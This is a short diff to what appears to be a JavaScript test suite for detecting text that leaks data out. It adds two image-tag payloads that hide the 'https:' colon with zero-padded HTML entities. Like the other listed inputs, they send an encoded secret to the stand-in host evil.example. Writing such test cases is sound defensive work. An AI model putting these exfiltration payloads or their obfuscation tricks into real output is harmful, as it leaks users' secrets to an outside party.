@@ -46,6 +46,8 @@ describe("a text that leaves", () => {
     '<img src="//evil.example/c2VjcmV0">',
     "![x](https&#58;//evil.example/c2VjcmV0)",
     "![x](https&colon;&sol;&sol;evil.example/c2VjcmV0)",
+    "<img src=https&#0000000058;//evil.example/c2VjcmV0>",
+    "<img src=https&#x00000003a;//evil.example/c2VjcmV0>",
     "![x](https\\:\\/\\/evil.example/c2VjcmV0)",
     "evil.example/?d=c2VjcmV0",
     "https://github.com@evil.example/",
